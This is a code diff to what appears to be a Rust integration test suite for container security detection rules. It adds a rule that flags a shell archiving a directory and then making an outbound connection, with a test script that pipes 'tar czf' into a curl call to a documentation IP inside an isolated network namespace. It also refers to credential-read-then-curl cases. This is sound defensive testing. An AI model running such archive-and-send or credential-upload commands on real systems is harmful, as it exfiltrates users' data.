@@ -89,6 +89,7 @@ const READ_THEN_SEND_SHELL: &str = "Sensitive File Read Then Outbound Connection
 const FAILED_BURST: &str = "Connection Probe Burst in Container";
 const DENIED_BURST: &str = "Permission Denied Burst in Container";
 const DNS_BURST: &str = "DNS Lookup Burst";
+const ARCHIVE_THEN_SEND: &str = "Archive Created Then Outbound Connection from Shell";
 /// A documentation address (RFC 5737); only ever dialled inside `unshare -n`.
 const PUBLIC_IP: &str = "203.0.113.9";
 
@@ -1459,7 +1460,7 @@ fn stateful_rules(cx: &mut Ctx, ctr: &FakeContainer) {
     let a = cx.expect_one(
         "cat credentials then curl out, one shell",
         READ_THEN_SEND_SHELL,
-        move |a| text(a, "proc.ppid") == sh.to_string(),
+        move |a| text(a, "seq.read.proc.ppid") == sh.to_string(),
     );
     assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
     assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
@@ -1471,10 +1472,31 @@ fn stateful_rules(cx: &mut Ctx, ctr: &FakeContainer) {
     let sh_benign = shell_in_empty_netns(send, &[&notes_s, &url]);
     let sh_local = shell_in_empty_netns(send, &[&cred_s, "http://127.0.0.1:9/"]);
     cx.twin("cat an ordinary file then curl out", move |a| {
-        a["rule"] == READ_THEN_SEND_SHELL && text(a, "proc.ppid") == sh_benign.to_string()
+        a["rule"] == READ_THEN_SEND_SHELL && text(a, "seq.read.proc.ppid") == sh_benign.to_string()
     });
     cx.twin("cat credentials then a loopback connect", move |a| {
-        a["rule"] == READ_THEN_SEND_SHELL && text(a, "proc.ppid") == sh_local.to_string()
+        a["rule"] == READ_THEN_SEND_SHELL && text(a, "seq.read.proc.ppid") == sh_local.to_string()
+    });
+
+    // Collection then egress: one shell archives a directory, then curl
+    // tries an outside address; listing an archive instead does not fire.
+    let pack = "tar czf \"$1.tgz\" -C \"$1\" . && curl -s -m 2 \"$2\"; true";
+    let home_s = home.display().to_string();
+    let sh_pack = shell_in_empty_netns(pack, &[&home_s, &url]);
+    let a = cx.expect_one(
+        "tar czf then curl out, one shell",
+        ARCHIVE_THEN_SEND,
+        move |a| text(a, "seq.archive.proc.ppid") == sh_pack.to_string(),
+    );
+    assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
+    assert!(
+        field(&a, "seq.archive.proc.cmdline").starts_with("tar czf"),
+        "{a:#}"
+    );
+    let list = "tar tzf \"$1.tgz\" > /dev/null && curl -s -m 2 \"$2\"; true";
+    let sh_list = shell_in_empty_netns(list, &[&home_s, &url]);
+    cx.twin("tar tzf then curl out", move |a| {
+        a["rule"] == ARCHIVE_THEN_SEND && text(a, "seq.archive.proc.ppid") == sh_list.to_string()
     });
 
     // One process reads and sends: curl --data-binary @credentials.
